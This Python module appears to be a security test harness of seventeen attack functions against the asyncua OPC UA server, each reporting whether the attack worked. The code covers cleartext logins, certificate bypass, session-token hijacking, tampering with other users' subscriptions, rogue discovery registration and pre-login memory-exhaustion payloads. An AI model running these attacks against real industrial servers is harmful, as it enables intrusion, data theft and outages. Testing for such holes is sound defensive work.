"""Attacks, one for each hole of asyncua; each tells whether it got what it was after.

Each takes where the server is and what an attacker has: his own certificate, trusted or not, and
a login of the lowest role.
"""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

from asyncua import Client, ua
from asyncua.ua.ua_binary import struct_to_binary

from tests.services.opcua.served import SOON, Keys, client, node, spaces
from tests.services.opcua.wire import REFUSED, Heard, channel, closed, frame, hang_up, hello, until


@dataclass(frozen=True)
class Target:
    """A server and what the attacker has."""

    url: str
    keys: Keys
    pid: int = 0

    @property
    def host(self) -> tuple[str, int]:
        host, _, port = self.url.removeprefix("opc.tcp://").partition("/")[0].partition(":")
        return host, int(port)


async def without_security(target: Target) -> bool:
    """A session over SecurityPolicy None, on a server that offers SignAndEncrypt alone."""
    made = Client(target.url, timeout=SOON)
    await made.connect_socket()
    try:
        await made.send_hello()
        await made.open_secure_channel()
        wanted = ua.CreateSessionParameters(ClientNonce=bytes(32), RequestedSessionTimeout=60_000)
        await made.uaclient.create_session(wanted)
        parameters = ua.ActivateSessionParameters()
        # in clear, for everybody on the way to read
        parameters.UserIdentityToken = ua.UserNameIdentityToken(
            PolicyId="username", UserName="observer", Password=b"password of observer"
        )
        await made.uaclient.activate_session(parameters)
        return len(await made.get_namespace_array()) > 1
    finally:
        await hang_up(made)


async def any_password(target: Target) -> bool:
    """A login as `admin` with a password that nobody gave out."""
    async with client(target.url, target.keys["anna"], "admin", "guessed") as made:
        return bool(await made.get_namespace_array())


async def expired_certificate(target: Target) -> bool:
    """A certificate that ended yesterday."""
    async with client(target.url, target.keys["late"], "observer") as made:
        return bool(await made.get_namespace_array())


async def unknown_certificate(target: Target) -> bool:
    """A certificate that nobody trusts."""
    async with client(target.url, target.keys["stranger"], "observer") as made:
        return bool(await made.get_namespace_array())


async def _on_foreign(target: Target, act: Callable[[Any, int], Awaitable[bool]]) -> bool:
    """Anna subscribes, Bert acts on the number of her subscription."""
    async with (
        client(target.url, target.keys["anna"], "operator") as anna,
        client(target.url, target.keys["bert"], "observer") as bert,
    ):
        await spaces(anna)
        subscription = await anna.create_subscription(100, Heard())
        await subscription.subscribe_data_change(node(anna, "v0"))
        return await act(bert, subscription.subscription_id)


async def delete_foreign(target: Target) -> bool:
    """End somebody else's subscription."""

    async def act(bert: Any, number: int) -> bool:
        (status,) = await bert.uaclient.delete_subscriptions([number])
        return bool(status.is_good())

    return await _on_foreign(target, act)


async def take_over_foreign(target: Target) -> bool:
    """Have somebody else's values sent to oneself."""

    async def act(bert: Any, number: int) -> bool:
        wanted = ua.TransferSubscriptionsRequest()
        wanted.Parameters.SubscriptionIds = [number]
        data = await bert.uaclient.protocol.send_request(wanted)
        found = ua.ua_binary.struct_from_binary(ua.TransferSubscriptionsResponse, data)
        return bool(found.Parameters.Results[0].StatusCode.is_good())

    return await _on_foreign(target, act)


async def listen_to_foreign(target: Target) -> bool:
    """Put an item into somebody else's subscription."""

    async def act(bert: Any, number: int) -> bool:
        wanted = ua.CreateMonitoredItemsParameters()
        wanted.SubscriptionId = number
        one = ua.MonitoredItemCreateRequest()
        one.ItemToMonitor.NodeId = ua.NodeId(ua.ObjectIds.Server_ServerStatus_CurrentTime)
        one.ItemToMonitor.AttributeId = ua.AttributeIds.Value
        one.MonitoringMode = ua.MonitoringMode.Reporting
        wanted.ItemsToCreate = [one]
        (result,) = await bert.uaclient.create_monitored_items(wanted)
        return bool(result.StatusCode.is_good())

    return await _on_foreign(target, act)


async def guess_token(target: Target) -> bool:
    """Go on in a session whose token follows from one's own."""
    async with client(target.url, target.keys["bert"], "observer") as bert:
        token = bert.uaclient.protocol.authentication_token
        async with client(target.url, target.keys["anna"], "admin"):
            if not isinstance(token.Identifier, int):
                return False
            return await activate(target, ua.NodeId(token.Identifier + 1))


async def stolen_token(target: Target) -> bool:
    """Go on in a session whose token was read from its owner's memory."""
    async with client(target.url, target.keys["anna"], "admin") as anna:
        return await activate(target, anna.uaclient.protocol.authentication_token)


async def activate(target: Target, token: Any) -> bool:
    """A session by its token, over a channel of the attacker's own."""
    made = Client(target.url, timeout=SOON)
    pair = target.keys["bert"]
    made.application_uri = "urn:client:bert"
    await made.set_security_string(f"Basic256Sha256,SignAndEncrypt,{pair.file},{pair.key_file}")
    await made.connect_socket()
    try:
        await made.send_hello()
        await made.open_secure_channel()
        made.uaclient.protocol.authentication_token = token
        parameters = ua.ActivateSessionParameters()
        crypto = made.security_policy.asymmetric_cryptography
        # the nonce is not known, so no signature is right: it is looked at or not
        parameters.ClientSignature.Signature = crypto.signature(b"no nonce")
        parameters.UserIdentityToken = ua.UserNameIdentityToken(
            PolicyId="username", UserName="observer", Password=b"password of observer"
        )
        with suppress(*REFUSED):
            await made.uaclient.activate_session(parameters)
        # whether it was taken shows in what the channel may do now
        return bool(await made.get_namespace_array())
    finally:
        await hang_up(made)


async def read_without_level(target: Target) -> bool:
    """Read a variable whose AccessLevel has no CurrentRead, or which the role may not see."""
    async with client(target.url, target.keys["bert"], "observer") as bert:
        await spaces(bert)
        return await node(bert, "security").read_value() is not None


async def subscribe_without_level(target: Target) -> bool:
    """Subscribe to it."""
    async with client(target.url, target.keys["bert"], "observer") as bert:
        await spaces(bert)
        heard = Heard()
        subscription = await bert.create_subscription(100, heard)
        await subscription.subscribe_data_change(node(bert, "security"))
        return await until(lambda: bool(heard.values))


async def half_of_a_batch(target: Target) -> bool:
    """Write two values, of which one may not be written: the other one must not be, either."""
    async with client(target.url, target.keys["anna"], "operator") as made:
        await spaces(made)
        names = ("set_point", "v0")
        values = [ua.DataValue(ua.Variant(0.5, ua.VariantType.Double)) for _ in names]
        nodes = [node(made, name).nodeid for name in names]
        statuses = await made.uaclient.write_attributes(nodes, values)
        return any(status.is_good() for status in statuses)


async def no_truth_about_roles(target: Target) -> bool:
    """Roles are kept from clients: nobody is told who may do what."""
    async with client(target.url, target.keys["anna"], "operator") as made:
        await spaces(made)
        read = node(made, "set_point").read_attribute
        try:
            told = await read(ua.AttributeIds.UserRolePermissions)
        except REFUSED:
            return True
        return not told.Value.Value


async def poisoned_discovery(target: Target) -> bool:
    """Have discovery tell of a server of the attacker's, without a login."""
    made = Client(target.url, timeout=SOON)
    await made.connect_sessionless()
    try:
        server = ua.RegisteredServer()
        server.ServerUri, server.ProductUri = "urn:evil", "urn:evil"
        server.ServerNames = [ua.LocalizedText("evil")]
        server.DiscoveryUrls = ["opc.tcp://evil:4840"]
        wanted = ua.RegisterServerRequest(Server=server)
        await made.uaclient.protocol.send_request(wanted)
        found = await made.find_servers()
        return any(s.ApplicationUri == "urn:evil" for s in found)
    finally:
        await hang_up(made)


async def huge_chunk(target: Target) -> bool:
    """Declare a chunk of 4 GB before any login: 8 MB of it are taken."""
    reader, writer = await asyncio.open_connection(*target.host)
    try:
        await hello(reader, writer)
        writer.write(b"MSGF" + struct.pack("<II", 0xFFFF_FFF0, 1))
        for _ in range(128):
            writer.write(bytes(1 << 16))
            await asyncio.wait_for(writer.drain(), SOON)
        return not await closed(reader)
    finally:
        writer.close()


async def endless_chunks(target: Target) -> bool:
    """Send a message of 6 MB in chunks before any login."""
    reader, writer = await asyncio.open_connection(*target.host)
    try:
        await hello(reader, writer)
        number = await channel(reader, writer)
        part = bytes(60_000)
        for k in range(100):
            head = struct.pack("<IIII", number[0], number[1], k + 2, 9)
            writer.write(b"MSGC" + struct.pack("<I", len(part) + 24) + head + part)
            await asyncio.wait_for(writer.drain(), SOON)
        return not await closed(reader)
    finally:
        writer.close()


async def lying_length(target: Target) -> bool:
    """An array of 300,000 texts in 80 bytes, each of a length that steps back over itself.

    Before any login. It gets through where the array is believed and the request answered.
    """
    reader, writer = await asyncio.open_connection(*target.host)
    try:
        await hello(reader, writer)
        number = await channel(reader, writer)
        kind = ua.NodeId(ua.ObjectIds.GetEndpointsRequest_Encoding_DefaultBinary)
        message = ua.ua_binary.nodeid_to_binary(kind) + struct_to_binary(ua.RequestHeader())
        message += struct.pack("<i", 1) + b"x" + struct.pack("<ii", 300_000, -4)
        head = struct.pack("<IIII", number[0], number[1], 2, 9)
        writer.write(b"MSGF" + struct.pack("<I", len(message) + 24) + head + message)
        answer = ua.utils.Buffer((await frame(reader))[24:])
        told = ua.ua_binary.nodeid_from_binary(answer).Identifier
        return bool(told == ua.ObjectIds.GetEndpointsResponse_Encoding_DefaultBinary)
    finally:
        writer.close()


ATTACKS = (
    without_security,
    any_password,
    expired_certificate,
    unknown_certificate,
    delete_foreign,
    take_over_foreign,
    listen_to_foreign,
    guess_token,
    stolen_token,
    read_without_level,
    subscribe_without_level,
    half_of_a_batch,
    no_truth_about_roles,
    poisoned_discovery,
    huge_chunk,
    endless_chunks,
    lying_length,
)
